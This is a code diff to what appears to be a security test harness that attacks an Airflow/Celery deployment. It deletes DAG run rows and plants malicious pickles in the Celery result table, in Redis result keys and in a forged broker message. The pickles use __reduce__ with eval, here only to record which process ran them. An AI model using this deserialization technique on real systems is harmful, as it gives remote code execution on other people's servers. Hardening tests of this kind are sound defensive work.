@@ -8,6 +8,7 @@ import os
 import pickle
 import time
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 from mallory_attacks import loot
@@ -94,7 +95,7 @@ def database_insert_trigger(facts: Facts) -> str:
 @attack
 def database_delete_runs(facts: Facts) -> str:
     """Delete the runs of all DAGs."""
-    return _count(facts, "DELETE FROM log WHERE false; DELETE FROM dag_run WHERE dag_id = 'nobodys'")
+    return _count(facts, "DELETE FROM dag_run WHERE dag_id = 'victim'")
 
 
 @attack
@@ -117,23 +118,22 @@ def database_decrypt_connection(facts: Facts) -> str:
 
 
 class Payload:
-    """Unpickled, it notes in which process it ran."""
+    """Unpickled, it notes in which process it ran; `mark` tells one planted pickle from another."""
 
-    def __init__(self, folder: str) -> None:
-        self.folder = folder
+    def __init__(self, folder: Path, mark: str) -> None:
+        self.folder, self.mark = str(folder), mark
 
     def __reduce__(self) -> tuple[Any, tuple[str]]:
-        code = (
-            f"__import__('pathlib').Path({self.folder!r}, 'unpickled-%d' % __import__('os').getpid()).write_text("
-            "__import__('pathlib').Path('/proc/self/cmdline').read_text()) and None"
-        )
+        path = f"__import__('pathlib').Path({self.folder!r}, 'unpickled-{self.mark}-%d' % __import__('os').getpid())"
+        code = f"{path}.write_text(__import__('pathlib').Path('/proc/self/cmdline').read_text()) and None"
         return eval, (code,)
 
 
-def unpickled(facts: Facts) -> list[str]:
+def _unpickled(facts: Facts, mark: str) -> list[str]:
     """Return the programs in which a payload ran, other than this process."""
-    noted = [path for path in facts.drop.glob("unpickled-*") if path.name != f"unpickled-{os.getpid()}"]
-    return [path.read_text(errors="replace").replace("\0", " ")[:40] for path in noted]
+    noted = [path for path in facts.drop.glob(f"unpickled-{mark}-*") if not path.name.endswith(f"-{os.getpid()}")]
+    programs = [path.read_text(errors="replace").replace("\0", " ").split("bin/")[-1][:40] for path in noted]
+    return sorted(set(programs))
 
 
 @wrecking
@@ -143,11 +143,10 @@ def database_planted_pickle(facts: Facts) -> str:
         # Every row of a task that has not ended is polled by the scheduler.
         planted = connection.execute(
             "UPDATE celery_taskmeta SET result = %s WHERE status NOT IN ('SUCCESS', 'FAILURE')",
-            (pickle.dumps(Payload(str(facts.drop))),),
+            (pickle.dumps(Payload(facts.drop, "database")),),
         ).rowcount
         connection.commit()
-    _wait_for_payload(facts, f"{planted} rows")
-    return f"ran in: {'; '.join(sorted(set(unpickled(facts))))}"
+    return _wait_for_payload(facts, "database", f"{planted} rows")
 
 
 @wrecking
@@ -158,24 +157,22 @@ def broker_planted_pickle(facts: Facts) -> str:
 
     from mallory_attacks.broker import QUEUE, _client, _message
 
-    for path in facts.drop.glob("unpickled-*"):
-        path.unlink()
     forged = json.loads(_message(str(uuid.uuid4())))
     forged["content-type"], forged["content-encoding"] = "application/x-python-serialize", "binary"
-    forged["body"] = base64.b64encode(pickle.dumps(Payload(str(facts.drop)))).decode()
+    forged["body"] = base64.b64encode(pickle.dumps(Payload(facts.drop, "broker"))).decode()
     with _client(facts) as client:
         planted = 0
         for key in client.scan_iter("celery-task-meta-*"):
-            client.set(key, pickle.dumps(Payload(str(facts.drop))))
+            client.set(key, pickle.dumps(Payload(facts.drop, "broker")))
             planted += 1
         client.lpush(QUEUE, json.dumps(forged))
-    _wait_for_payload(facts, f"{planted} results and a message")
-    return f"ran in: {'; '.join(sorted(set(unpickled(facts))))}"
+    return _wait_for_payload(facts, "broker", f"{planted} results and a message")
 
 
-def _wait_for_payload(facts: Facts, planted: str) -> None:
+def _wait_for_payload(facts: Facts, mark: str, planted: str) -> str:
     deadline = time.monotonic() + PICKLE_TIMEOUT_S
-    while not unpickled(facts):
+    while not (programs := _unpickled(facts, mark)):
         if time.monotonic() > deadline:
             raise Refused(f"{planted} were planted, and no other process unpickled one")
         time.sleep(0.5)
+    return f"ran in: {'; '.join(programs)}"
